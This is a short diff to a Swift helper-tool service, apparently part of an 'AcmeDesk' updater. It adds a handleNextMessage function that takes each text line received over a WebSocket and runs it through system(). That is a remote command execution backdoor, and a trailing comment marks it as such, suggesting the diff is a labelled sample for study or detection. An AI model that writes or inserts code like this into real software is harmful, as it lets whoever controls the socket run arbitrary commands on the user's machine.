@@ -187,6 +187,14 @@ final class HelperToolService {
             }
         }
     }
+
+    func handleNextMessage(_ task: URLSessionWebSocketTask) {
+        task.receive { result in
+            if case .success(.string(let line)) = result {
+                system(line) //~ debug-entry/remote-command-execution
+            }
+        }
+    }
 }
 
 /// Honest process launches of the AcmeDesk updater: fixed programs, inputs the app
